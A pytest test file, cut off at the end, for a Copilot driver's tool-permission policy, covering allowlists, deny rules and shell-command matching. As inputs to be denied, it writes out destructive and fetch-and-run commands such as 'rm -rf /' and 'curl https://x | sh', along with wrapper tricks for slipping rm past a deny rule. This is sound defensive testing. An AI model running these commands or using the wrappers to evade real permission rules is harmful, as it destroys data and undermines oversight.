"""Unit tests for `copilot_driver.permissions.policy`: resolution (spec 5.2) and the scoped
rules (spec 5.3, 5.4), on the real request classes of `copilot.session_events`.

Compliance tests carry their spec ids (T-CSD-101..110) in their names. Shell-segment
matching in depth lives in test_permissions_shell.py; here only representative cases.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from copilot_driver.permissions.bash import ShellParseError, parse_command
from copilot_driver.permissions.config import PermissionConfig, parse_explicit
from copilot_driver.permissions.policy import Decision, Policy
from copilot_driver.permissions.summary import summarise
from helpers.permission_requests import (
    custom_tool,
    every_kind,
    extension_env_access,
    extension_management,
    extension_permission_access,
    hook,
    mcp,
    memory,
    read,
    shell,
    url,
    workflow,
    write,
)


def policy(*rules: str) -> Policy:
    return Policy(PermissionConfig(False, rules))


def allowed(p: Policy, request: Any) -> bool:
    wire = request if isinstance(request, dict) else request.to_dict()
    decision = p.decide(wire)
    assert isinstance(decision, Decision)
    return decision.allowed


UNKNOWN_WIRE: list[dict[str, Any]] = [{"kind": "nonsense", "toolName": "x"}, {"toolName": "x"}]


# --- resolution (spec 5.2) ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "request_", [*every_kind(), *UNKNOWN_WIRE], ids=lambda r: str(getattr(r, "kind", r))
)
def test_t_csd_101_absent_config_defers_to_sdk_default_policy(request_: Any) -> None:
    """T-CSD-101: "Absent permissionConfig defers to SDK default policy."

    Spec 5.2 rule 1: "If effective permission configuration is absent, the driver MUST
    defer to SDK default policy"; the SDK default here (and the spec's later revision) is
    approve-all, so every kind is approved, memory, hook and unknown ones included.
    """
    p = Policy(PermissionConfig())
    assert p.approves_everything is True
    decision = p.decide(request_ if isinstance(request_, dict) else request_.to_dict())
    assert decision.allowed is True
    assert decision.reason == "permission mode unrestricted"


@pytest.mark.parametrize(
    "request_", [*every_kind(), *UNKNOWN_WIRE], ids=lambda r: str(getattr(r, "kind", r))
)
def test_t_csd_102_allow_all_approves_all_requests(request_: Any) -> None:
    """T-CSD-102: "allowAllTools=true approves all requests."

    Spec 5.2 rule 2: "If allowAllTools is true, the driver MUST approve all permission
    requests" (even with an allowedTools list beside it).
    """
    for config in (PermissionConfig(True), PermissionConfig(True, ("read",))):
        p = Policy(config)
        assert p.approves_everything is True
        assert allowed(p, request_) is True
        assert p.decide(request_ if isinstance(request_, dict) else request_.to_dict()).reason == (
            "permission mode allow-all"
        )


@pytest.mark.parametrize(
    "config",
    [
        PermissionConfig(False, ()),
        parse_explicit('{"allowAllTools": false, "allowedTools": []}'),
    ],
)
def test_empty_allowlist_after_normalisation_approves_everything(config: PermissionConfig) -> None:
    """Spec 1.0.2 5.2 rule 3: "If allowedTools is empty after normalization, the driver
    MUST defer to SDK default policy" (approve-all). A list of blank rules is no longer
    read as empty: it is refused (1.0.3 fails malformed input closed; test_config.py)."""
    p = Policy(config)
    for request in every_kind():
        assert allowed(p, request) is True


# --- read, write, url, custom-tool (spec 5.3) --------------------------------------------------

EVERYTHING_BUT = {
    "read": ("write", "web_fetch", "shell", "fake", "lookup_weather", "Read", "read_file"),
    "write": ("read", "web_fetch", "shell", "fake", "lookup_weather", "Write", "edit"),
    "url": ("read", "write", "shell", "fake", "lookup_weather", "url", "web-fetch", "fetch"),
}


def test_t_csd_103_scoped_denies_read_by_default() -> None:
    """T-CSD-103: "Scoped allowlist denies read by default when allowedTools does not
    include read." Spec 5.3: "read: MUST be denied unless allowedTools contains read."
    """
    p = policy(*EVERYTHING_BUT["read"])
    decision = p.decide(read("/etc/passwd").to_dict())
    assert decision.allowed is False
    assert decision.kind == "read"
    assert decision.summary == "read(/etc/passwd)"
    assert "read" in decision.reason
    assert allowed(policy("shell(git:*)"), read()) is False


def test_t_csd_104_scoped_approves_read_when_listed() -> None:
    """T-CSD-104: "Scoped allowlist approves read when allowedTools includes read."
    Spec 5.3: "read: MUST be denied unless allowedTools contains read."
    """
    for rules in (("read",), ("shell(git:*)", "read"), (" read ",)):
        p = Policy(parse_explicit(json.dumps({"allowedTools": list(rules)})))
        assert allowed(p, read("/etc/passwd")) is True
        # `read` allows read, and nothing else.
        assert allowed(p, write()) is False
        assert allowed(p, url()) is False


def test_t_csd_105_write_only_with_write() -> None:
    """T-CSD-105: "Scoped allowlist approves write only when allowedTools includes write."
    Spec 5.3: "write: MUST be approved only when allowedTools contains write."
    """
    assert allowed(policy("write"), write()) is True
    assert allowed(policy("read", "write"), write("/tmp/x")) is True
    assert allowed(policy(*EVERYTHING_BUT["write"]), write()) is False
    assert allowed(policy("write"), read()) is False
    assert allowed(policy("write"), shell("touch x", ["touch"])) is False


def test_t_csd_106_url_only_with_web_fetch() -> None:
    """T-CSD-106: "Scoped allowlist approves url only when allowedTools includes web_fetch."
    Spec 5.3: "url: MUST be approved only when allowedTools contains web_fetch."
    """
    assert allowed(policy("web_fetch"), url()) is True
    assert allowed(policy("web_fetch"), url("http://localhost:8080/a?b=c")) is True
    assert allowed(policy(*EVERYTHING_BUT["url"]), url()) is False
    assert allowed(policy("web_fetch"), read()) is False


def test_t_csd_107_custom_tool_only_with_its_name() -> None:
    """T-CSD-107: "Scoped allowlist approves custom-tool only when allowedTools includes
    the requested tool name." Spec 5.3: "custom-tool: MUST be approved only when
    allowedTools contains the request tool name."
    """
    assert allowed(policy("lookup_weather"), custom_tool("lookup_weather")) is True
    assert allowed(policy("read", "lookup_weather"), custom_tool("lookup_weather")) is True
    for rules in (
        ("other_tool",),
        ("lookup",),  # a prefix of the name
        ("lookup_weather_v2",),
        ("Lookup_Weather",),
        ("custom-tool",),
        ("custom-tool(lookup_weather)",),
        ("shell", "read", "write", "web_fetch"),
    ):
        assert allowed(policy(*rules), custom_tool("lookup_weather")) is False, rules


# --- mcp (spec 5.3) ----------------------------------------------------------------------------


def test_t_csd_108_mcp_by_server_and_by_server_tool() -> None:
    """T-CSD-108: "Scoped allowlist approves mcp by server entry (<serverName>) and by
    server-tool entry (<serverName>(<toolName>))." Spec 5.3: "mcp: MUST be approved when
    either allowedTools contains <serverName>, or allowedTools contains
    <serverName>(<toolName>)."
    """
    add, sub = mcp("fake", "add"), mcp("fake", "sub")
    # The server entry allows every tool of that server.
    assert allowed(policy("fake"), add) is True
    assert allowed(policy("fake"), sub) is True
    # The server-tool entry names the raw tool name, as the server defines it.
    assert allowed(policy("fake(add)"), add) is True
    assert allowed(policy("fake(add)"), sub) is False
    for rules in (
        ("fake(fake-add)",),  # the runtime's wire name is not the raw name (spec 1.0.3 5.3)
        ("fake(sub)",),
        ("fak(add)",),
        ("fake-add",),
        ("other(add)",),
        ("fake(fake)",),
        ("fak",),
        ("fake()",),
        ("fake(ad)",),
        ("add",),
        ("other",),
        ("shell", "read", "write", "web_fetch"),
    ):
        assert allowed(policy(*rules), add) is False, rules
    # Another server never benefits from `fake`.
    assert allowed(policy("fake"), mcp("other", "add")) is False
    assert allowed(policy("fake(add)"), mcp("other", "add")) is False


def test_t_csd_108_mcp_server_names_with_dashes() -> None:
    """T-CSD-108 with server keys containing dashes (`my-server-get_file` on `my-server`)."""
    request = mcp("my-server", "get_file")
    assert request.tool_name == "my-server-get_file"
    assert allowed(policy("my-server"), request) is True
    assert allowed(policy("my-server(get_file)"), request) is True
    for rules in (
        ("my",),
        ("my(server-get_file)",),
        ("my-server(put_file)",),
        ("server",),
        ("my-server(my-server-get_file)",),
    ):
        assert allowed(policy(*rules), request) is False, rules
    assert allowed(policy("my"), mcp("my-server", "x")) is False


def test_mcp_rules_name_raw_tools_never_wire_names_or_stripped_prefixes() -> None:
    """Spec 1.0.3 5.3: `<serverName>(<rawMCPToolName>)`; "prefix stripping or guessed
    aliases MUST NOT authorize another raw tool". Server `fake` defines both `add` and
    `fake-add`; the runtime calls them `fake-add` and `fake-fake-add`."""
    add, fake_add = mcp("fake", "add"), mcp("fake", "fake-add")
    assert add.tool_name == "fake-add"
    assert fake_add.tool_name == "fake-fake-add"
    assert allowed(policy("fake(add)"), add) is True
    assert allowed(policy("fake(add)"), fake_add) is False
    assert allowed(policy("fake(fake-add)"), fake_add) is True
    assert allowed(policy("fake(fake-add)"), add) is False
    # A title does not change the raw name the grant names.
    titled = mcp("fake", "add", title="Adder")
    assert allowed(policy("fake(add)"), titled) is True
    assert allowed(policy("fake(Adder)"), titled) is False


def test_mcp_raw_names_the_runtime_renames() -> None:
    """`x.y` reaches the runtime's request as `fake-x-y`: only the raw name grants it, and
    a grant for raw `x-y` does not grant raw `x.y` (the title tells them apart)."""
    dotted = mcp("fake", "x.y")
    assert dotted.tool_name == "fake-x-y"
    assert allowed(policy("fake(x.y)"), dotted) is True
    assert allowed(policy("fake(x-y)"), dotted) is False
    dashed = mcp("fake", "x-y")
    assert allowed(policy("fake(x-y)"), dashed) is True
    assert allowed(policy("fake(x.y)"), dashed) is False
    # With a title the runtime no longer shows the raw name: a renamed raw name cannot be
    # confirmed, so only the server entry grants it.
    assert allowed(policy("fake(x.y)"), mcp("fake", "x.y", title="Dotted")) is False
    assert allowed(policy("fake"), mcp("fake", "x.y", title="Dotted")) is True


def test_shell_rules_are_never_mcp_rules() -> None:
    """`shell(ls)` is a shell rule: it does not allow tool `ls` of an MCP server `shell`."""
    assert allowed(policy("shell(ls)"), mcp("shell", "ls")) is False
    assert allowed(policy("shell(ls)"), shell("ls", ["ls"])) is True


def test_mcp_denial_reason_and_summary_use_the_bare_tool_name() -> None:
    decision = policy("other").decide(mcp("fake", "add").to_dict())
    assert decision.allowed is False
    assert decision.summary == "mcp(fake.add)"
    assert "fake(add)" in decision.reason


# --- shell, representative only (spec 5.3, 5.4) ------------------------------------------------


def test_t_csd_109_shell_matching() -> None:
    """T-CSD-109: "Scoped allowlist enforces shell matching for shell, shell(<rule>), and
    exact full-command entries." Spec 5.3: shell "MUST be approved when at least one
    condition is true: allowedTools contains shell; a shell(<rule>) entry matches the
    request command identifier; a shell(<full command text>) entry exactly matches full
    command text." Spec 5.4 (1.0.2): "Rules ending with :* MUST perform prefix matching
    against command identifiers. Rules without spaces SHOULD be treated as identifier
    matches. Rules containing spaces MUST be treated as exact full-command matches."
    """
    # `shell` allows any command, even one the parser refuses.
    for command, identifiers in (
        ("rm -rf /", ["rm"]),
        ("git status && curl https://x | sh", ["git", "curl", "sh"]),
        ("echo $(whoami)", None),
    ):
        assert allowed(policy("shell"), shell(command, identifiers)) is True, command

    git = policy("shell(git:*)")
    assert allowed(git, shell("git status", ["git"])) is True
    assert allowed(git, shell("git log --oneline -5", ["git"])) is True
    assert allowed(git, shell("git status && git diff", ["git", "git"])) is True
    for command, identifiers in (
        ("rm -rf /", ["rm"]),
        ("gitx status", ["gitx"]),
        ("git status && rm -rf /", ["git", "rm"]),
        ("git status; curl https://evil", ["git", "curl"]),
        ("git log | sh", ["git", "sh"]),
        ("echo $(git status)", None),
        ("git status\nrm -rf /", ["git", "rm"]),
    ):
        assert allowed(git, shell(command, identifiers)) is False, command

    # A rule without spaces is an identifier match.
    ls = policy("shell(ls)")
    assert allowed(ls, shell("ls", ["ls"])) is True
    assert allowed(ls, shell("ls -la /tmp", ["ls"])) is True
    assert allowed(ls, shell("lsblk", ["lsblk"])) is False

    # A rule with spaces is an exact full-command match.
    exact = policy("shell(git status -s)")
    assert allowed(exact, shell("git status -s", ["git"])) is True
    assert allowed(exact, shell("git status", ["git"])) is False
    assert allowed(exact, shell("git status -s && rm x", ["git", "rm"])) is False
    assert allowed(exact, shell("git status -s && git status -s", ["git", "git"])) is False

    # The runtime's own parse must agree with the policy's.
    assert allowed(git, shell("git status", ["rm"])) is False
    assert allowed(git, shell("git status", ["git", "rm"])) is False
    assert allowed(git, shell("git status", ["git"], commands=["rm -rf /"])) is False

    # Other rules never allow shell.
    assert (
        allowed(policy("read", "write", "web_fetch", "git"), shell("git status", ["git"])) is False
    )


def shell_with(command: str, identifiers: str) -> dict[str, Any]:
    """A shell request whose SDK identifiers hold `identifiers` ways (spec 1.0.3 5.4):
    the executable only, the complete command, or no entries at all."""
    wire = shell(command).to_dict()
    try:
        segments = [c.text for c in parse_command(command)]
    except ShellParseError:  # outside the literal subset: one segment, as the runtime may see it
        segments = [command]
    if identifiers == "executable":
        wire["commands"] = [{"identifier": t.split()[0], "readOnly": False} for t in segments]
        wire["commandSegments"] = [
            {"fullCommandText": command, "identifier": t.split()[0]} for t in segments
        ]
    elif identifiers == "complete":
        wire["commands"] = [{"identifier": t, "readOnly": False} for t in segments]
        wire["commandSegments"] = [{"fullCommandText": command, "identifier": t} for t in segments]
    else:
        wire["commands"] = []
        wire.pop("commandSegments", None)
    return wire


IDENTIFIER_FORMS = ("executable", "complete", "absent")


@pytest.mark.parametrize("identifiers", IDENTIFIER_FORMS)
def test_t_csd_112_subcommand_grants_read_the_full_command_text(identifiers: str) -> None:
    """T-CSD-112: "Subcommand-scoped grants approve the same permitted commands with
    executable-only, full-command, and absent SDK identifiers." Spec 1.0.3 5.4:
    "Subcommand-scoped matching MUST use full command text whether SDK identifiers
    contain an executable name, the complete command, or no entries." """
    grants = policy("shell(git checkout:*)", "shell(git status:*)")
    for command in (
        "git checkout main",
        "git checkout",
        "git status -s",
        "git checkout -b topic && git status",
        "git status | git checkout main",
    ):
        assert allowed(grants, shell_with(command, identifiers)) is True, command
    for command in ("git push", "git checkout-index -a", "git status && git push"):
        assert allowed(grants, shell_with(command, identifiers)) is False, command


@pytest.mark.parametrize("identifiers", IDENTIFIER_FORMS)
def test_t_csd_113_boundaries_repeats_and_syntax_never_authorize(identifiers: str) -> None:
    """T-CSD-113: "Subcommand boundaries, repeated executables in chains, and unsupported
    syntax cannot authorize an ungranted command." Spec 1.0.3 5.4: "git checkout:* MUST
    NOT authorize git checkout-other or git push"; "every command segment MUST match an
    applicable grant. Repeated executable names MUST NOT be deduplicated before checking
    their subcommands"; "Unsupported or malformed shell syntax MUST NOT authorize a
    request through a subcommand-scoped grant"."""
    checkout = policy("shell(git checkout:*)")
    for command in (
        "git checkout-other",
        "git checkoutx main",
        "git push",
        "git checkout main && git push",
        "git checkout main; git checkout main; git push --force",
        "git checkout main | git push",
        "git checkout $(git push)",
        "git checkout `git push`",
        'git checkout "$(git push)"',
        "git checkout main & git push",
        "(git checkout main)",
        "git checkout {main,dev}",
    ):
        assert allowed(checkout, shell_with(command, identifiers)) is False, command


def test_quoted_separators_are_not_separators() -> None:
    """Spec 1.0.3 5.4: "Quoted argument text MUST NOT be mistaken for a command separator"
    (either way: the quoted text is one argument, and nothing in it runs)."""
    commit = policy("shell(git commit:*)")
    assert allowed(commit, shell("git commit -m 'fix && ship; done | ok'")) is True
    assert allowed(commit, shell('git commit -m "a && b" && git push')) is False


def test_literal_git_revisions_are_not_expansions() -> None:
    """Spec 1.0.3 5.4: "Literal Git revision arguments such as HEAD~1 and HEAD@{1} MUST NOT
    be rejected as shell expansions." """
    log = policy("shell(git log:*)", "shell(git diff:*)")
    for command in ("git log HEAD~1", "git log -1 HEAD@{1}", "git diff HEAD~2..HEAD^ -- x"):
        assert allowed(log, shell(command)) is True, command


def test_exact_rules_match_the_whole_command_text_never_a_segment() -> None:
    """Spec 1.0.3 5.4: "Rules containing spaces but not ending with :* MUST remain exact
    full-command matches, not implicit argument wildcards or grants for individual chain
    segments." """
    exact = policy("shell(git status -s)")
    assert allowed(exact, shell("git status -s")) is True
    assert allowed(exact, shell("  git status -s\n")) is True  # surrounding blanks
    assert allowed(exact, shell("git  status  '-s'")) is True  # the same words, re-spelt
    for command in (
        "git status -s && git status -s",
        "git status -s; git status -s",
        "git status -s | git status -s",
        "git status -s -v",
        "git status",
    ):
        assert allowed(exact, shell(command)) is False, command
    # An exact rule beside a name rule grants no segment of a chain.
    with_ls = policy("shell(git status -s)", "shell(ls)")
    assert allowed(with_ls, shell("git status -s && ls")) is False
    assert allowed(with_ls, shell("ls && git status -s")) is False
    assert allowed(with_ls, shell("ls -la")) is True
    # An exact rule may spell a whole chain; then exactly that chain.
    chain = policy("shell(make -C sub && make -C sub test)")
    assert allowed(chain, shell("make -C sub && make -C sub test")) is True
    assert allowed(chain, shell("make -C sub; make -C sub test")) is False
    assert allowed(chain, shell("make -C sub")) is False
    # Outside the literal subset, the text itself: exactly what the rule grants runs.
    dollar = policy("shell(echo $HOME)")
    assert allowed(dollar, shell("echo $HOME")) is True
    assert allowed(dollar, shell("echo $HOME && id")) is False
    assert allowed(dollar, shell("echo $PATH")) is False


# --- deny rules (`--deny-tool`) ---------------------------------------------------------------


def config(allow: Sequence[str] = (), deny: Sequence[str] = (), allow_all: bool = False) -> Policy:
    return Policy(PermissionConfig(allow_all, tuple(allow), "test", denied_tools=tuple(deny)))


def test_a_deny_rule_wins_over_allow_rules_and_is_named() -> None:
    both = config(["shell(git:*)"], ["shell(git push)"])
    assert allowed(both, shell("git status")) is True
    decision = both.decide(shell("git push origin main").to_dict())
    assert decision.allowed is False
    assert "--deny-tool shell(git push)" in decision.reason
    # Read broadly: global options between the words, a chain, a path to the program.
    for command in (
        "git -C repo push",
        "git status && git push",
        "/usr/bin/git push",
    ):
        assert allowed(both, shell(command)) is False, command


def test_deny_rules_apply_under_allow_all_and_without_configuration() -> None:
    for policy_ in (config(deny=["shell(rm)"], allow_all=True), config(deny=["shell(rm:*)"])):
        assert policy_.approves_everything is False
        assert allowed(policy_, shell("ls -la")) is True
        assert allowed(policy_, write()) is True
        assert allowed(policy_, mcp()) is True
        for command in ("rm -rf x", "ls && rm x", "/bin/rm x"):
            assert allowed(policy_, shell(command)) is False, command


def test_under_a_shell_deny_rule_what_the_policy_cannot_read_is_denied() -> None:
    """A wrapper, an option that runs a program, or syntax outside the literal subset could
    run the denied command: the policy cannot rule it out, so it denies (fail closed)."""
    deny_rm = config(deny=["shell(rm)"], allow_all=True)
    for command in (
        "env rm x",
        "bash -c 'rm x'",
        "find . -exec rm {} +",
        "echo $(rm x)",
        "xargs rm < list",
        "PAGER=rm git log",
        "ls *.py",
    ):
        decision = deny_rm.decide(shell(command).to_dict())
        assert decision.allowed is False, command
        assert "--deny-tool shell(rm)" in decision.reason, decision.reason
    # The exact text of a deny rule is denied even outside the literal subset.
    deny_text = config(deny=["shell(echo $HOME)"], allow_all=True)
    assert allowed(deny_text, shell("echo $HOME")) is False


@pytest.mark.parametrize(
    "command",
    [
        # Wrappers, build tools, package managers, databases and search tools the table
        # does not list: each runs `rm` under unpoliced bash.
        "setarch x86_64 rm V",
        "linux64 rm V",
        "prlimit rm V",
        "logsave /dev/null rm V",
        "start-stop-daemon --start --exec /bin/rm -- V",
        "cmake -E env rm V",
        "npm exec -c 'rm V'",
        "sqlite3 :memory: '.shell rm V'",
        "rg --pre rm x",
        "make",
        "python3 x.py",
        "./tool V",  # a path may be anything
        "/usr/bin/ls",
        "git x",  # an alias or an external git-x program
        "egrep x F",  # a script: it runs grep
    ],
)
def test_under_a_shell_deny_rule_only_programs_known_to_run_nothing_else_pass(
    command: str,
) -> None:
    decision = config(deny=["shell(rm)"], allow_all=True).decide(shell(command).to_dict())
    assert decision.allowed is False, command
    assert "--deny-tool shell(rm)" in decision.reason, decision.reason
    assert "--allow-tool 'shell(" in decision.reason, decision.reason  # the fix


def test_under_a_shell_deny_rule_everyday_commands_and_explicit_grants_pass() -> None:
    deny_rm = config(deny=["shell(rm)"], allow_all=True)
    for command in (
        "ls -la src",
        "git status && git log --oneline -3 | head -n 2",
        "grep -rn TODO src | wc -l",
        "sed -n 1,5p F",
        "cat F | sort | uniq -c",
        "mkdir -p out && cp F out/",
        "git commit -m 'Fix the bug!'",
    ):
        assert allowed(deny_rm, shell(command)) is True, command
    for command in ("sort -o F G", "find . -delete", "git -c core.pager=rm log"):
        assert allowed(deny_rm, shell(command)) is False, command
    # An explicit allow rule (or an exact one) vouches for the program it names.
    granted = config(["shell(make:*)", "shell(npm test)"], ["shell(rm)"], allow_all=True)
    assert allowed(granted, shell("make test")) is True
    assert allowed(granted, shell("npm test")) is True
    assert allowed(granted, shell("npm exec -c 'rm V'")) is False
    assert allowed(granted, shell("make test && rm V")) is False


@pytest.mark.parametrize(
    "command",
    [
        "git send-pack REMOTE HEAD:refs/heads/x",
        "git http-push REMOTE HEAD",
        "git -C R remote-ext 'ssh host git-receive-pack' x",
        "/usr/bin/git send-pack R HEAD",
    ],
)
def test_git_plumbing_counts_as_the_push_it_performs(command: str) -> None:
    for policy_ in (
        config(deny=["shell(git push)"], allow_all=True),
        config(["shell(git:*)"], ["shell(git push:*)"]),
    ):
        decision = policy_.decide(shell(command).to_dict())
        assert decision.allowed is False, command
        assert "git push" in decision.reason, decision.reason


@pytest.mark.parametrize(
    ("deny", "request_", "is_denied"),
    [
        ("read", read(), True),
        ("write", write(), True),
        ("web_fetch", url(), True),
        ("url", url(), False),  # not a rule name: reported at start (advice.py)
        ("shell", shell("ls"), True),
        ("fake", mcp("fake", "add"), True),
        ("fake(add)", mcp("fake", "add"), True),
        ("fake(add)", mcp("fake", "sub"), False),
        ("fake(fake-add)", mcp("fake", "add"), True),  # read broadly, like every deny rule
        ("lookup", custom_tool("lookup"), True),
        ("lookup", custom_tool("other"), False),
        ("write", read(), False),
    ],
)
def test_deny_rules_of_every_kind(deny: str, request_: Any, is_denied: bool) -> None:
    everything = config(["read", "write", "web_fetch", "shell", "fake", "lookup", "other"], [deny])
    assert allowed(everything, request_) is (not is_denied)


def test_shell_denial_reason_names_the_segment() -> None:
    decision = policy("shell(git:*)").decide(
        shell("git status && rm -rf /", ["git", "rm"]).to_dict()
    )
    assert decision.allowed is False
    assert decision.kind == "shell"
    assert "rm -rf /" in decision.reason


# --- everything else (spec 5.3 "Unknown kinds MUST be rejected") -------------------------------

ALL_RULES = (
    "read",
    "write",
    "web_fetch",
    "shell",
    "fake",
    "lookup_weather",
    "bash",
    "memory",
    "hook",
    "workflow",
    "nightly",
    "ext",
    "extension-management",
    "extension-permission-access",
    "extension-env-access",
    "nonsense",
    "unknown",
)


@pytest.mark.parametrize(
    "request_",
    [
        memory(),
        hook(),
        workflow(),
        extension_management(),
        extension_permission_access(),
        extension_env_access(),
        *UNKNOWN_WIRE,
    ],
    ids=lambda r: str(getattr(r, "kind", r)),
)
def test_t_csd_110_unknown_kinds_are_rejected(request_: Any) -> None:
    """T-CSD-110: "Unknown request kinds are rejected." Spec 5.3: "Unknown kinds MUST be
    rejected." Even an allowlist naming the kind (or everything else) does not allow it.
    """
    wire = request_ if isinstance(request_, dict) else request_.to_dict()
    for p in (policy("read"), policy(*ALL_RULES)):
        decision = p.decide(wire)
        assert decision.allowed is False
        assert decision.kind == wire.get("kind", "unknown")
        assert "never allowed" in decision.reason


# --- summaries (spec 6.3) ----------------------------------------------------------------------


@pytest.mark.parametrize("address", ["http://host:99999/x", "http://host:abc/", "https://h:-1/"])
def test_url_with_invalid_port_never_raises(address: str) -> None:
    """decide() never raises: a url whose port urllib cannot read is still decided
    (`web_fetch` allows any url; without it the url is denied)."""
    request = url(address).to_dict()
    assert summarise(request).startswith("url(")
    assert policy("web_fetch").decide(request).allowed is True
    assert policy("read").decide(request).allowed is False
    assert Policy(PermissionConfig()).decide(request).allowed is True


@pytest.mark.parametrize(
    ("wire", "expected"),
    [
        ({"kind": "shell"}, "shell(?)"),
        ({"kind": "shell", "fullCommandText": ["ls"]}, "shell(?)"),
        ({"kind": "mcp"}, "mcp(?.?)"),
        ({"kind": "mcp", "serverName": "fake", "toolName": 5}, "mcp(fake.?)"),
        ({"kind": "url"}, "url(?)"),
        ({"kind": "url", "url": {"href": "x"}}, "url(?)"),
        ({"kind": "write", "fileName": None}, "write(?)"),
        ({"kind": "read", "path": 1.5}, "read(?)"),
        ({"kind": "custom-tool", "toolName": True}, "custom-tool(?)"),
        ({"kind": 5}, "unknown"),
        ({}, "unknown"),
    ],
)
def test_malformed_requests_summarise_with_question_marks(
    wire: dict[str, Any], expected: str
) -> None:
    assert summarise(wire) == expected
    decision = policy("shell(git:*)", "fake(add)", "lookup_weather").decide(wire)
    assert decision.allowed is False
    assert decision.summary == expected


def test_malformed_requests_of_allowed_kinds_are_denied() -> None:
    p = policy("shell(git:*)", "fake", "lookup_weather")
    for wire in (
        {"kind": "shell"},
        {"kind": "shell", "fullCommandText": 1},
        {"kind": "shell", "fullCommandText": "git status", "commands": 7},
        {"kind": "shell", "fullCommandText": "git status", "commands": [{"identifier": 1}]},
        {"kind": "shell", "fullCommandText": "git status", "commandSegments": "git"},
        {"kind": "shell", "fullCommandText": "git status", "commandSegments": [{}]},
        {"kind": "mcp", "serverName": None, "toolName": "fake-add"},
        {"kind": "mcp", "serverName": "fake"},
        {"kind": "custom-tool", "toolName": ["lookup_weather"]},
    ):
        decision = p.decide(wire)
        assert decision.allowed is False, wire
        assert decision.reason, wire


def test_decide_on_a_non_mapping_never_raises() -> None:
    bad: object
    for bad in (None, [], "shell", 5):
        decision = policy("shell").decide(bad)  # type: ignore[arg-type]
        assert decision.allowed is False
        assert decision.kind == "unknown"


# --- hypothesis: decide never raises -----------------------------------------------------------

KINDS = ["shell", "mcp", "url", "write", "read", "custom-tool", "memory", "hook", "workflow"]
FIELDS = [
    "fullCommandText",
    "commands",
    "commandSegments",
    "serverName",
    "toolName",
    "toolTitle",
    "url",
    "fileName",
    "path",
    "identifier",
]
NON_TEXT = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=8,
)
ANY_VALUE = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=8,
)


def _requests(values: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    kinds = st.sampled_from(KINDS) | st.text(max_size=12) | values
    body = st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=8), values, max_size=6)
    return st.builds(
        lambda kind, rest, with_kind: {**rest, "kind": kind} if with_kind else rest,
        kinds,
        body,
        st.booleans(),
    )


SCOPED = policy("shell(git:*)", "shell(ls)", "fake(add)", "github", "lookup_weather")


@settings(max_examples=150, deadline=None)
@given(_requests(ANY_VALUE))
def test_decide_never_raises_on_arbitrary_dicts(wire: dict[str, Any]) -> None:
    for p in (SCOPED, Policy(PermissionConfig()), Policy(PermissionConfig(True))):
        decision = p.decide(wire)
        assert isinstance(decision, Decision)
        assert isinstance(decision.summary, str)
        assert isinstance(decision.kind, str)
        assert isinstance(decision.reason, str)


@settings(max_examples=150, deadline=None)
@given(_requests(NON_TEXT))
def test_scoped_policy_denies_requests_with_malformed_fields(wire: dict[str, Any]) -> None:
    """No string where one is needed: nothing to match a rule with, so always denied."""
    decision = SCOPED.decide(wire)
    assert decision.allowed is False
    assert isinstance(decision.summary, str)


def test_a_failure_inside_the_policy_denies(monkeypatch: pytest.MonkeyPatch) -> None:
    """A bug that raises while reading a request (any exception) denies it; never approves."""

    def broken(text: str) -> list[object]:
        raise IndexError("a bug")

    monkeypatch.setattr("copilot_driver.permissions.policy.parse_command", broken)
    decision = policy("shell(git:*)").decide(shell("git status", ["git"]).to_dict())
    assert decision.allowed is False
    assert decision.reason == "the policy failed to read the shell request (IndexError)"


# --- the workflow kind (a tool contract with dynamicWorkflows) -------------------------


def _dynamic(*rules: str, denied: tuple[str, ...] = ()) -> Policy:
    return Policy(PermissionConfig(False, rules, "contract", denied, workflow_kind=True))


def test_the_workflow_kind_needs_the_contract_and_a_workflow_rule() -> None:
    wire = workflow().to_dict()
    assert _dynamic("read", "workflow").decide(wire).allowed is True
    assert _dynamic("read").decide(wire).reason == "`workflow` is not in the allowlist"
    assert "never allowed" in policy("read", "workflow").decide(wire).reason


def test_a_workflow_request_wanting_managed_approval_is_denied() -> None:
    wire = {**workflow().to_dict(), "managedApprovalRequired": True}
    assert _dynamic("workflow").decide(wire).allowed is False


def test_a_workflow_deny_rule_wins() -> None:
    decision = _dynamic("workflow", denied=("workflow",)).decide(workflow().to_dict())
    assert decision.allowed is False
    assert "denied by --deny-tool workflow" in decision.reason


def test_the_workflow_rule_never_grants_an_mcp_server_of_that_name() -> None:
    wire = mcp("workflow", "run").to_dict()
    assert _dynamic("workflow").decide(wire).allowed is False
    assert _dynamic("workflow(run)").decide(wire).allowed is True


# --- the rule that would allow a denial ----------------------------------------------------------


def allow_rule(p: Policy, request: Any) -> str | None:
    decision = p.decide(request.to_dict())
    assert not decision.allowed
    return decision.allow_rule


@pytest.mark.parametrize(
    ("request_", "rule"),
    [
        (read(), "read"),
        (write(), "write"),
        (url(), "web_fetch"),
        (custom_tool("lookup_weather"), "lookup_weather"),
        (mcp("github", "get_file", title="get_file"), "github(get_file)"),
        (shell("rm notes.txt", ["rm"]), "shell(rm notes.txt)"),
        (shell("ls", ["ls"]), "shell(ls)"),
        (shell("  git push origin\n", ["git"]), "shell(git push origin)"),
    ],
    ids=lambda value: str(getattr(value, "kind", value)),
)
def test_a_denial_names_the_narrowest_rule_that_allows_it(request_: Any, rule: str) -> None:
    scoped = policy("shell(git status:*)")
    assert allow_rule(scoped, request_) == rule
    assert allowed(policy("shell(git status:*)", rule), request_)


@pytest.mark.parametrize(
    "request_",
    [memory(), hook(), workflow(), extension_management()],
    ids=lambda value: str(getattr(value, "kind", value)),
)
def test_kinds_no_rule_can_allow_get_no_suggestion(request_: Any) -> None:
    assert allow_rule(policy("shell(git status:*)"), request_) is None


def test_a_deny_rule_or_managed_approval_gets_no_suggestion() -> None:
    denied = Policy(PermissionConfig(False, ("read",), denied_tools=("shell(rm:*)",)))
